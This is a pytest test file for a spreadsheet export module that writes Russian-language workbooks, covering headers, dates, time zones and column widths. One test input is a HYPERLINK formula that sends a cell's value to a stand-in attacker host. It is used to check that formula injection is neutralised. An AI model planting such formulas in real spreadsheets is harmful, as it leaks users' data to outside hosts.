from datetime import UTC, date, datetime
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from core.excel import (
    XLSX_CONTENT_TYPE,
    Column,
    build_workbook,
    export_workbook,
    put_value,
    xlsx_response,
    yes_no,
)


def _sheet(content):
    return load_workbook(BytesIO(content)).active


def test_build_workbook_writes_a_bold_frozen_header_and_the_rows():
    content = build_workbook("Организации", ["Имя", "Число"], [["А", 1], ["Б", 2.5]])

    sheet = _sheet(content)
    assert sheet.title == "Организации"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Имя", "Число"],
        ["А", 1],
        ["Б", 2.5],
    ]
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"


FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+7 (999) 1-2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "#N/A"]
)
def test_build_workbook_writes_formula_like_text_as_quoted_text(text):
    content = build_workbook("Люди", ["Фамилия"], [[text]])

    cell = _sheet(content)["A2"]
    assert cell.value == text
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_build_workbook_leaves_plain_text_and_numbers_as_they_are():
    content = build_workbook("Люди", ["Фамилия", "Стаж"], [["Иванов", -2]])

    sheet = _sheet(content)
    assert (sheet["A2"].value, sheet["A2"].quotePrefix) == ("Иванов", False)
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-2, "n")


def test_build_workbook_drops_characters_excel_cannot_store():
    # Data saved before the input check must not make the export fail.
    content = build_workbook("Люди", ["Фамилия"], [["Ива\x07но\x0bв\x00\u200b"]])

    assert _sheet(content)["A2"].value == "Иванов"


def test_put_value_makes_a_formula_text_in_an_existing_cell():
    sheet = Workbook().active

    cell = put_value(sheet["A1"], "=1+1")

    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_build_workbook_writes_dates_as_russian_dates():
    content = build_workbook("Люди", ["Дата"], [[date(2026, 9, 1)]])

    cell = _sheet(content)["A2"]
    assert cell.value == datetime(2026, 9, 1)
    assert cell.number_format == "DD.MM.YYYY"


def test_build_workbook_writes_aware_datetimes_in_local_time(settings):
    settings.TIME_ZONE = "Asia/Tomsk"  # UTC+7

    content = build_workbook(
        "Журнал", ["Когда"], [[datetime(2026, 9, 1, 3, tzinfo=UTC)]]
    )

    assert _sheet(content)["A2"].value == datetime(2026, 9, 1, 10)


def test_build_workbook_cuts_the_sheet_title_to_excel_limit():
    content = build_workbook("Очень длинное название листа книги Excel", ["А"], [])

    assert len(_sheet(content).title) == 31


def test_build_workbook_widens_columns_to_the_content():
    content = build_workbook("Лист", ["А"], [["Средняя общеобразовательная школа"]])

    assert _sheet(content).column_dimensions["A"].width == 35


def test_export_workbook_writes_a_column_of_each_declared_value():
    columns = [Column("Имя", str.upper), Column("Длина", len)]

    content = export_workbook("Лист", columns, ["аб", "в"])

    assert [[c.value for c in row] for row in _sheet(content).iter_rows()] == [
        ["Имя", "Длина"],
        ["АБ", 2],
        ["В", 1],
    ]


def test_yes_no_writes_a_flag_in_russian():
    assert [yes_no(True), yes_no(False)] == ["да", "нет"]


def test_xlsx_response_is_an_attachment():
    response = xlsx_response(b"data", "people.xlsx")

    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="people.xlsx"'
